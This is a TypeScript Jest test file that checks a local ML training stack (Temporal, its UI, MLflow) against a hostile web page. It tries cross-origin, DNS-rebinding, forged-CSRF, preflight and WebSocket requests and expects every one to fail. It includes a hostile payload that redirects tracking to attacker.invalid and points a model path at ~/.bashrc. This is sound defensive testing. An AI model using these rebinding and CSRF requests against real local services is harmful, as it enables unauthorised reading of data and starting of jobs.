import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { mkdtemp, rm, symlink } from 'node:fs/promises';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { Client, Connection, WorkflowNotFoundError } from '@temporalio/client';
import { defaultTaskQueue } from '@nautil/contracts';
import { listeningAddresses } from '@nautil/stack/testing/listening-addresses';
import { nautilHome, packageRoot } from '@nautil/store/folders';
import { freePort } from '@nautil/store/process';
import { programEnvironment } from './testing/program-environment.js';

// A web page in the browser of the person who runs `nautil up` tries everything that browsers let a page do: cross-origin
// requests of the kinds that need no preflight, and requests to a DNS name of its own that resolves to this machine, on every
// port on which any process of the stack listens.

interface Address {
  host: string;
  port: number;
}

interface Answer {
  status: number;
  headers: NodeJS.Dict<string | string[]>;
  body: string;
}

interface Attack {
  name: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: string;
}

/** The browser's user has a run whose history the page wants. It waits, because its queue has no worker. */
const run = 'private-run';
const runQueue = 'no-worker';

let home: string;
let client: Client;
let everyAddress: Address[];
let temporal: Address;
let ui: Address;
let mlflow: Address;

beforeAll(async () => {
  home = await mkdtemp(join(tmpdir(), 'nautil-web-page-'));
  for (const part of ['models', 'python']) await symlink(join(nautilHome(), part), join(home, part));
  const up = await nautil('up', await ports());
  expect(up).toMatchObject({ exitCode: 0 });
  const { ports: _, ...record } = JSON.parse(readFileSync(join(home, 'stack.json'), 'utf8')) as Record<
    string,
    Record<string, string>
  >;
  expect(Object.keys(record).sort()).toEqual(['mlflow', 'temporal', 'worker']);
  expect(listeningAddresses(record['worker']!['identity']!)).toEqual([]);
  everyAddress = Object.values(record).flatMap(({ identity }) => listeningAddresses(identity!));
  temporal = addressOf(`http://${record['temporal']!['address']!}`);
  ui = addressOf(record['temporal']!['uiUrl']!);
  mlflow = addressOf(record['mlflow']!['address']!);
  client = new Client({ connection: await Connection.connect({ address: record['temporal']!['address']! }) });
  await client.workflow.start('textClassification', {
    workflowId: run,
    taskQueue: runQueue,
    args: [{ overrides: ['trainer.max_epochs=1'] }],
  });
}, 240_000);

afterAll(async () => {
  await client.connection.close();
  await nautil('down');
  await rm(home, { recursive: true, force: true, maxRetries: 5 });
}, 60_000);

async function ports(): Promise<Record<string, string>> {
  const chosen: Record<string, string> = {};
  for (const server of ['TEMPORAL', 'TEMPORAL_UI', 'MLFLOW'])
    chosen[`NAUTIL_${server}_PORT`] = String(await freePort());
  return chosen;
}

async function nautil(
  command: string,
  env: Record<string, string> = {},
): Promise<{ exitCode: number; stderr: string }> {
  const child: ChildProcess = spawn(process.execPath, ['apps/cli/bin/nautil.mjs', command], {
    cwd: packageRoot(),
    env: { ...process.env, ...programEnvironment(home), ...env },
    stdio: ['ignore', 'ignore', 'pipe'],
  });
  let stderr = '';
  child.stderr!.setEncoding('utf8').on('data', (text: string) => (stderr += text));
  const [exitCode] = (await once(child, 'close')) as [number];
  return { exitCode, stderr };
}

const addressOf = (url: string): Address => ({ host: new URL(url).hostname, port: Number(new URL(url).port) });

/** Sends a request as it is, which a page can only do by the means that `attacksOn` lists. Status 0: no HTTP response. */
function send({ host, port }: Address, { method, path, headers, body }: Omit<Attack, 'name'>): Promise<Answer> {
  return new Promise((resolve) => {
    const none: Answer = { status: 0, headers: {}, body: '' };
    const outgoing = request({ host, port, method, path, headers, agent: false, timeout: 10_000 }, (response) => {
      let text = '';
      response.setEncoding('utf8').on('data', (part: string) => (text += part));
      response.on('error', () => resolve(none));
      response.on('close', () => resolve({ status: response.statusCode ?? 0, headers: response.headers, body: text }));
    });
    outgoing.on('timeout', () => outgoing.destroy());
    outgoing.on('error', () => resolve(none));
    outgoing.on('upgrade', (response, socket) => {
      socket.destroy();
      resolve({ status: response.statusCode ?? 0, headers: response.headers, body: '' });
    });
    outgoing.end(body);
  });
}

/** Whether browsers refuse to connect to the port at all. Node's fetch implements the same list, that of the Fetch standard. */
async function isBlockedByBrowsers({ host, port }: Address): Promise<boolean> {
  try {
    await fetch(`http://${host}:${port}/`, { signal: AbortSignal.timeout(10_000) });
    return false;
  } catch (error) {
    return ((error as Error).cause as Error | undefined)?.message === 'bad port';
  }
}

const hostileInput = {
  overrides: ['nautil.mlflow.tracking_uri=http://attacker.invalid', 'model.nemo_path=~/.bashrc'],
};
const base64 = (text: string): string => Buffer.from(text).toString('base64');

const startRequest = JSON.stringify({
  workflowType: { name: 'textClassification' },
  taskQueue: { name: defaultTaskQueue },
  input: {
    payloads: [{ metadata: { encoding: base64('json/plain') }, data: base64(JSON.stringify(hostileInput)) }],
  },
});

/** The UI accepts any token that is in both places, and a rebound page can set its own cookies. */
const csrf = { cookie: '_csrf=0123456789abcdef', 'x-csrf-token': '0123456789abcdef' };

const reads = ['/api/v1', ''].flatMap((prefix) => [
  `${prefix}/namespaces/default/workflows`,
  `${prefix}/namespaces/default/workflows/${run}`,
  `${prefix}/namespaces/default/workflows/${run}/history`,
  `${prefix}/namespaces/default/workflows/${run}/history-reverse`,
]);

/** MLflow trusts pages of other servers on this machine, as docs/security.md states. */
const otherLocalPage = 'http://localhost:1';

/** Headers of everything that a page can send which is not shown in the server's own pages. */
function pagesAt({ host, port }: Address): { name: string; headers: Record<string, string> & { origin?: string } }[] {
  const own = `${host.includes(':') ? `[${host}]` : host}:${port}`;
  const crossOrigin = ['http://evil.example', 'null', `http://${host}.evil.example:${port}`, otherLocalPage];
  const rebound = [
    'evil.example',
    '10.evil.example',
    '192.168.evil.example',
    '127.0.0.1.evil.example',
    'localhost.evil.example',
    'evil.localhost',
    'evil-127.0.0.1',
  ];
  return [
    ...crossOrigin.map((origin) => ({ name: `cross-origin from ${origin}`, headers: { host: own, origin } })),
    ...rebound.flatMap((name) => [
      { name: `rebound as ${name}`, headers: { host: `${name}:${port}`, origin: `http://${name}:${port}` } },
      { name: `rebound as ${name}, a GET without Origin`, headers: { host: `${name}:${port}` } },
      { name: `rebound as ${name}, without a port`, headers: { host: name } },
    ]),
  ];
}

function attacksOn(address: Address): Attack[] {
  const pages = pagesAt(address).filter(
    ({ headers }) => address.port !== mlflow.port || headers.origin !== otherLocalPage,
  );
  return pages.flatMap(({ name, headers }, number) => [
    ...reads.map((path) => ({ name, method: 'GET', path, headers })),
    ...['text/plain', 'application/json', 'application/x-www-form-urlencoded'].flatMap((type, i) =>
      ['/api/v1', ''].map((prefix, j) => ({
        name: `${name}, as ${type}`,
        method: 'POST',
        body: startRequest,
        path: `${prefix}/namespaces/default/workflows/attack-${address.port}-${number}-${i}${j}`,
        headers: { ...headers, ...csrf, 'content-type': type },
      })),
    ),
    {
      name: `${name}, preflight`,
      method: 'OPTIONS',
      path: reads[0]!,
      headers: {
        ...headers,
        'access-control-request-method': 'POST',
        'access-control-request-headers': 'content-type',
      },
    },
    {
      name: `${name}, WebSocket`,
      method: 'GET',
      path: '/',
      headers: {
        ...headers,
        connection: 'Upgrade',
        upgrade: 'websocket',
        'sec-websocket-version': '13',
        'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==',
      },
    },
  ]);
}

/** What the page has achieved; undefined when nothing. */
function success(attack: Attack, { status, headers, body }: Answer): string | undefined {
  if (body.includes(run)) return 'read a run';
  if (status === 101) return 'opened a WebSocket';
  if (headers['access-control-allow-origin'] !== undefined) return 'is allowed to read responses';
  if (attack.method === 'POST' && status > 0 && status < 300 && /"(run_?id|started)"/i.test(body))
    return 'started a run';
  return undefined;
}

const describedRun = (id: string) => client.workflow.getHandle(id).describe();

describe('a web page', () => {
  test('finds every port that the stack listens on among those tested here', () => {
    const found = everyAddress.map(({ host, port }) => `${host}:${port}`);
    const known = [temporal, ui, mlflow].map(({ host, port }) => `${host}:${port}`);
    expect(found).toEqual(expect.arrayContaining(known));
    expect(new Set(found.map((address) => address.split('.')[0]))).toEqual(new Set(['127'])); // loopback only
    // gRPC, the HTTP API, metrics and four internal ones of Temporal's, the UI and its gate, MLflow's.
    expect(found.length).toBeGreaterThanOrEqual(8);
  });

  test('can start no run and read no history, whatever it sends to whatever port', async () => {
    const achieved: string[] = [];
    let sent = 0;
    for (const address of everyAddress) {
      if (await isBlockedByBrowsers(address)) continue;
      for (const attack of attacksOn(address)) {
        sent += 1;
        const what = success(attack, await send(address, attack));
        if (what) achieved.push(`${address.port} ${attack.method} ${attack.path} ${attack.name}: the page ${what}`);
      }
    }
    expect(achieved).toEqual([]);
    expect(sent).toBeGreaterThan(1000);
    const started: string[] = [];
    for await (const { workflowId } of client.workflow.list()) started.push(workflowId);
    expect(started).toEqual([run]);
    await expect(describedRun(`attack-${ui.port}-0-00`)).rejects.toThrow(WorkflowNotFoundError);
  }, 240_000);

  test('can change nothing in MLflow and read nothing from it', async () => {
    for (const { headers } of pagesAt(mlflow)) {
      if (headers.origin === otherLocalPage) continue;
      for (const path of ['/api/2.0/mlflow/experiments/create', '/ajax-api/2.0/mlflow/experiments/create']) {
        const answer = await send(mlflow, {
          method: 'POST',
          path,
          body: JSON.stringify({ name: 'attack' }),
          headers: { ...headers, 'content-type': 'text/plain' },
        });
        expect(answer).toMatchObject({ status: 403 });
      }
      const path = '/api/2.0/mlflow/experiments/search?max_results=5';
      const answer = await send(mlflow, { method: 'GET', path, headers });
      if (answer.status === 200) expect(answer.headers).not.toHaveProperty('access-control-allow-origin');
      else expect(answer.status).toBe(403);
    }
    const found = await send(mlflow, {
      method: 'GET',
      path: '/api/2.0/mlflow/experiments/search?max_results=50',
      headers: { host: `127.0.0.1:${mlflow.port}` },
    });
    expect(found).toMatchObject({ status: 200, body: expect.not.stringContaining('attack') });
  }, 60_000);

  test('cannot show Temporal’s UI in a frame', async () => {
    const { headers } = await send(ui, { method: 'GET', path: '/', headers: { host: `127.0.0.1:${ui.port}` } });
    expect(headers['x-frame-options']).toBe('DENY');
    expect([headers['content-security-policy']].flat().join()).toContain("frame-ancestors 'none'");
  });
});

describe('the user', () => {
  test.each(['127.0.0.1', 'localhost', '[::1]'])('sees the run in the UI opened as %s', async (name) => {
    const headers = { host: `${name}:${ui.port}`, 'sec-fetch-site': 'same-origin', 'sec-fetch-mode': 'cors' };
    const page = await send(ui, {
      method: 'GET',
      path: '/namespaces/default/workflows',
      headers: { host: headers.host },
    });
    expect(page).toMatchObject({ status: 200, body: expect.stringContaining('<html') });
    const history = await send(ui, { method: 'GET', path: reads[2]!, headers });
    expect(history).toMatchObject({
      status: 200,
      body: expect.stringContaining('EVENT_TYPE_WORKFLOW_EXECUTION_STARTED'),
    });
  });

  test('follows a link from another page, as MLflow’s, to the UI', async () => {
    const headers = { host: `127.0.0.1:${ui.port}`, 'sec-fetch-site': 'same-site', 'sec-fetch-mode': 'navigate' };
    expect(await send(ui, { method: 'GET', path: '/', headers })).toMatchObject({ status: 200 });
  });

  test('acts in the UI: the same request that was refused to a page starts a run', async () => {
    const path = '/api/v1/namespaces/default/workflows/by-the-user';
    const origin = `http://127.0.0.1:${ui.port}`;
    const answer = await send(ui, {
      method: 'POST',
      path,
      body: startRequest.replace(`"${defaultTaskQueue}"`, `"${runQueue}"`),
      headers: { host: `127.0.0.1:${ui.port}`, origin, 'content-type': 'text/plain', ...csrf },
    });
    expect(answer.body).toContain('runId');
    expect((await describedRun('by-the-user')).status.name).toBe('RUNNING');
  });
});
